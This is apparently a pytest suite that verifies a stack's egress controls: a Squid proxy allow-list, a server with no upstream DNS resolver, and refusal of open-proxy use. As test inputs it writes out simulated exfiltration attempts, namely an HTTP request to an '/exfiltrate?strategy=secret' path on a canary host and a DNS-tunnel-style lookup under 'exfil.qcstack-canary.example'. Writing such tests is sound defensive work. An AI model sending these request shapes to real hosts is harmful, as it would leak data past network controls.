"""NET controls of the way out: the egress proxy's allow-list, qc-mcp's resolver, no open proxy.

Every attack is aimed at canaries the tests start, or at the API double's name on another port;
never at an address someone else owns.
"""

from __future__ import annotations

import json
import secrets
from ipaddress import IPv4Network
from typing import Any

import pytest

from infra_tests.conftest import Canary, Container, stack_network
from infra_tests.dockerhost import DockerHost
from stack.egress import render_policy
from stack.settings import Settings

PROXY = ("egress-proxy", 3128)
POLICY_PATH = "/etc/squid/policy.conf"
ALLOWED = "www.quantconnect.com:443"
# Sends one request to the proxy and prints its status line: the attacker's side of a tunnel.
# Self-contained, so it runs as a probe in qc-mcp, in a container of ours and on the Docker host.
PROXY_REQUEST = (
    "import json, socket, sys\n"
    "connection = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\n"
    "connection.sendall(sys.argv[3].encode())\n"
    "reply = connection.recv(4096).decode('latin-1')\n"
    "print(json.dumps({'status': reply.split('\\r\\n')[0]}))\n"
)
RESOLVE = """
    import socket
    try:
        addresses = sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443)})
        report(addresses=addresses, error=None)
    except socket.gaierror as error:
        report(addresses=[], error=error.errno)
"""


def connect_request(target: str) -> str:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"


def through_proxy(docker: DockerHost, container: str, request: str) -> str:
    """The proxy's status line for `request`, sent from inside `container`."""
    result = docker.probe(container, PROXY_REQUEST, *map(str, PROXY), request)
    assert "status" in result.data, f"probe failed ({result.rc}): {result.stderr[-800:]}"
    return str(result.data["status"])


def proxy_log(docker: DockerHost, egress_proxy: Container) -> list[dict[str, Any]]:
    """The proxy's access log: one JSON object per request."""
    lines = docker.check("docker logs %s 2>/dev/null", egress_proxy.id).splitlines()
    return [json.loads(line) for line in lines if line.startswith("{")]


def policy_source(docker: DockerHost, egress_proxy: Container) -> str:
    mount = next(m for m in egress_proxy.attrs["Mounts"] if m["Destination"] == POLICY_PATH)
    assert mount["RW"] is False
    return str(docker.host.file(mount["Source"]).content_string)


def egress_subnet(docker: DockerHost, project: str) -> IPv4Network:
    network = docker.inspect("network", stack_network(project, "egress"))
    return IPv4Network(network["IPAM"]["Config"][0]["Subnet"])


# NET-04 ---------------------------------------------------------------------------------------


@pytest.mark.control("NET-04", "config")
def test_proxy_runs_the_allow_list_rendered_from_settings(
    docker: DockerHost, project: str, egress_proxy: Container, settings: Settings
) -> None:
    expected = render_policy(settings.egress_destinations, egress_subnet(docker, project))
    assert policy_source(docker, egress_proxy) == expected


@pytest.mark.control("NET-04", "config")
def test_server_sends_its_api_traffic_to_the_proxy(qc_mcp: Container) -> None:
    environment = dict(entry.split("=", 1) for entry in qc_mcp.attrs["Config"]["Env"])
    assert environment["HTTPS_PROXY"] == "http://egress-proxy:3128"
    # The one exemption: spans go straight to the collector on the internal telemetry network
    # (OBS-01); anything else bypassing the proxy would be a way around the allow-list.
    assert environment.get("NO_PROXY") == "otel-collector"
    assert "no_proxy" not in environment


@pytest.mark.control("NET-04", "behaviour")
def test_tunnel_to_the_allowed_name_and_port_is_opened(
    docker: DockerHost, qc_mcp: Container
) -> None:
    # The one path that must work; the refusals below mean something only beside it.
    assert " 200 " in through_proxy(docker, qc_mcp.id, connect_request(ALLOWED))


@pytest.mark.control("NET-04", "behaviour")
def test_server_cannot_tunnel_to_a_canary_by_name(
    docker: DockerHost, qc_mcp: Container, outside_canary: Canary
) -> None:
    target = f"{outside_canary.name}:{outside_canary.port}"
    assert " 403 " in through_proxy(docker, qc_mcp.id, connect_request(target))


@pytest.mark.control("NET-04", "behaviour")
def test_server_cannot_tunnel_to_a_canary_by_ip_address(
    docker: DockerHost, qc_mcp: Container, outside_canary: Canary
) -> None:
    target = f"{outside_canary.address}:{outside_canary.port}"
    assert " 403 " in through_proxy(docker, qc_mcp.id, connect_request(target))


@pytest.mark.control("NET-04", "behaviour")
@pytest.mark.parametrize("port", [80, 8443, 22])
def test_server_cannot_tunnel_to_another_port_of_the_allowed_name(
    docker: DockerHost, qc_mcp: Container, port: int
) -> None:
    target = f"www.quantconnect.com:{port}"
    assert " 403 " in through_proxy(docker, qc_mcp.id, connect_request(target))


@pytest.mark.control("NET-04", "behaviour")
@pytest.mark.parametrize("host", ["canary", "www.quantconnect.com"])
def test_server_cannot_send_a_plain_http_request_through_the_proxy(
    docker: DockerHost, qc_mcp: Container, outside_canary: Canary, host: str
) -> None:
    target = f"{outside_canary.name}:{outside_canary.port}" if host == "canary" else host
    request = f"GET http://{target}/exfiltrate?strategy=secret HTTP/1.1\r\nHost: {target}\r\n\r\n"
    assert " 403 " in through_proxy(docker, qc_mcp.id, request)


@pytest.mark.control("NET-04", "behaviour")
def test_every_refused_request_is_logged_with_its_decision(
    docker: DockerHost, qc_mcp: Container, egress_proxy: Container, outside_canary: Canary
) -> None:
    # A port of the canary's that this run alone uses marks the entry; a name of the stack's own,
    # so even a mutant proxy that let it through would look up nothing outside.
    marker = f"{outside_canary.name}:{20000 + secrets.randbelow(10000)}"
    through_proxy(docker, qc_mcp.id, connect_request(marker))
    entries = [e for e in proxy_log(docker, egress_proxy) if marker in json.dumps(e)]
    assert len(entries) == 1, entries
    assert entries[0]["decision"] == "denied" and entries[0]["status"] == 403


# NET-05 ---------------------------------------------------------------------------------------


@pytest.mark.control("NET-05", "config")
def test_servers_resolver_has_no_upstream(qc_mcp: Container) -> None:
    assert qc_mcp.host_config["Dns"] == ["127.0.0.1"]


@pytest.mark.control("NET-05", "behaviour")
@pytest.mark.parametrize(
    "name",
    [
        "random",
        "www.quantconnect.com",  # only the proxy resolves the API; qc-mcp never needs to
        "canary",
    ],
)
def test_server_cannot_resolve_names_outside_the_stack(
    docker: DockerHost, qc_mcp: Container, outside_canary: Canary, name: str
) -> None:
    if name == "random":
        # The shape of a DNS tunnel: data in the labels of a lookup for the attacker's domain.
        name = f"{secrets.token_hex(16)}.exfil.qcstack-canary.example"
    elif name == "canary":
        name = outside_canary.name
    result = docker.probe(qc_mcp.id, RESOLVE, name)
    assert result.data == {"addresses": [], "error": result.data.get("error")}, result.data
    assert result.data["error"] is not None


@pytest.mark.control("NET-05", "behaviour")
def test_server_still_resolves_the_proxy(docker: DockerHost, qc_mcp: Container) -> None:
    result = docker.probe(qc_mcp.id, RESOLVE, "egress-proxy")
    assert result.data["error"] is None and result.data["addresses"]


# NET-06 ---------------------------------------------------------------------------------------


@pytest.mark.control("NET-06", "config")
def test_proxy_admits_only_the_egress_subnet(
    docker: DockerHost, project: str, egress_proxy: Container
) -> None:
    subnet = egress_subnet(docker, project)
    clients = [
        line.split()[3:]
        for line in policy_source(docker, egress_proxy).splitlines()
        if line.startswith("acl ") and line.split()[2] == "src"
    ]
    assert clients == [[str(subnet)]]


@pytest.mark.control("NET-06", "behaviour")
def test_outside_container_cannot_use_the_proxy_as_an_open_proxy(
    docker: DockerHost, project: str, qc_mcp: Container
) -> None:
    output = docker.check(
        "docker run --rm --network %s --user 10003:10003 --read-only --cap-drop ALL "
        "--security-opt no-new-privileges --entrypoint /usr/bin/python3 %s -c %s %s %s %s",
        stack_network(project, "outside"),
        qc_mcp.attrs["Image"],
        PROXY_REQUEST,
        *map(str, PROXY),
        connect_request(ALLOWED),
    )
    assert " 403 " in json.loads(output.strip().splitlines()[-1])["status"]


@pytest.mark.control("NET-06", "behaviour")
def test_docker_host_cannot_use_the_proxy_as_an_open_proxy(
    docker: DockerHost, project: str, egress_proxy: Container
) -> None:
    networks = docker.inspect("container", egress_proxy.id)["NetworkSettings"]["Networks"]
    address = networks[stack_network(project, "outside")]["IPAddress"]
    request = connect_request(ALLOWED)
    output = docker.check("python3 -c %s %s %s %s", PROXY_REQUEST, address, "3128", request)
    assert " 403 " in json.loads(output.strip().splitlines()[-1])["status"]
